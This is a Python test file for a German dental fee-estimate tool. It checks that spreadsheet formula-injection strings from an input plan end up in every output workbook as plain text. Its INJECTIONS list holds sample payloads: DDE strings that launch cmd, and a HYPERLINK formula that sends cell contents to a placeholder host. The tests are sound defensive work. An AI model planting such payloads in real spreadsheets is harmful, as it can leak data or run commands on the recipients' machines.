"""Formula injection: text from a plan is written into every output workbook as a plain string, never a formula."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from estimator.command.cli import main
from estimator.io.excel import read_plan
from estimator.io.workbook import write_workbook as write_plan_workbook
from estimator.sheetcells import append_row, plain_text
from tests.estimator.workbooks import FEE_HEADER, LAB_HEADER

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def hostile_plan(folder: Path, name: str = "plan.xlsx") -> Path:
    """A plan whose every text field (patient, practice, descriptions, justification) is an injection string,
    stored as text as an attacker's workbook would hold it."""
    day = dt.datetime(2026, 3, 10)
    workbook = openpyxl.Workbook()
    patient = workbook.active
    assert patient is not None
    patient.title = "Patient"
    for row in (
        ["Name", INJECTIONS[0]],
        ["Versicherungsnummer", INJECTIONS[1]],
        ["Zahnarzt", INJECTIONS[2]],
        ["Praxisanschrift", INJECTIONS[3]],
        ["Planungsdatum", day],
    ):
        append_row(patient, row)
    fees, labs = workbook.create_sheet("Leistungen"), workbook.create_sheet("Labor")
    append_row(fees, FEE_HEADER)
    append_row(labs, LAB_HEADER)
    for text in INJECTIONS:
        append_row(fees, [day, "16", "GOZ", "2210", text, 1, 4.0, None, text, None, None])
        append_row(labs, [day, "16", "0344", text, 1, 61.5, 7, None, None])
    workbook.save(folder / name)
    return folder / name


def assert_no_formula_and_all_texts(path: Path, texts: list[str]) -> None:
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert not FORMULA.search(archive.read(part)), f"{path.name}: formula in {part}"
    workbook = openpyxl.load_workbook(path)
    found = {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in texts:
        assert found.get(text.strip()) == "s", (path.name, text)  # the reader trims the text it keeps


def test_estimate_workbook_holds_injection_strings_as_text(tmp_path: Path) -> None:
    out = tmp_path / "schaetzung.xlsx"
    assert main(["estimate", str(hostile_plan(tmp_path)), "--xlsx", str(out)]) == 0
    assert_no_formula_and_all_texts(out, INJECTIONS)


def test_batch_summary_holds_injection_strings_and_file_names_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "plaene"
    folder.mkdir()
    hostile_plan(folder, "=1+1.xlsx")
    (folder / "+kaputt.xlsx").write_bytes(b"kein Excel")
    out = tmp_path / "uebersicht.xlsx"
    assert main(["batch", str(folder), "--out", str(out), "--jobs", "1"]) == 0
    assert_no_formula_and_all_texts(out, ["=1+1.xlsx", "+kaputt.xlsx", INJECTIONS[0]])


def test_plan_saved_as_a_workbook_keeps_injection_strings_as_text(tmp_path: Path) -> None:
    plan = read_plan(hostile_plan(tmp_path))
    write_plan_workbook(plan, tmp_path / "gespeichert.xlsx")
    assert_no_formula_and_all_texts(tmp_path / "gespeichert.xlsx", INJECTIONS)
    again = read_plan(tmp_path / "gespeichert.xlsx")
    assert [line.description for line in again.fee_lines] == [line.description for line in plan.fee_lines]
    assert again.person.name == INJECTIONS[0]


def test_template_has_no_formula(tmp_path: Path) -> None:
    assert main(["template", str(tmp_path / "vorlage.xlsx")]) == 0
    assert_no_formula_and_all_texts(tmp_path / "vorlage.xlsx", [])


def test_reviewer_text_reaches_the_workbook_as_text(tmp_path: Path) -> None:
    out = tmp_path / "schaetzung.xlsx"
    path = hostile_plan(tmp_path)
    assert (
        main(["estimate", str(path), "--xlsx", str(out), "--reviewer", "=1+2", "--override", "Leistungen!2:Klasse=B:=3+4"]) == 0
    )
    assert_no_formula_and_all_texts(out, [])
    reasons = [c.value for row in openpyxl.load_workbook(out)["Zeilen"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("=1+2" in text and "=3+4" in text for text in reasons)


@pytest.mark.parametrize(
    ("text", "kept"), [("a\x00b\x01c", "abc"), ("Zeile 1\nZeile 2\tx", "Zeile 1\nZeile 2\tx"), ("x" * 40_000, "x" * 32_767)]
)
def test_plain_text_drops_what_a_cell_cannot_hold(text: str, kept: str) -> None:
    assert plain_text(text) == kept
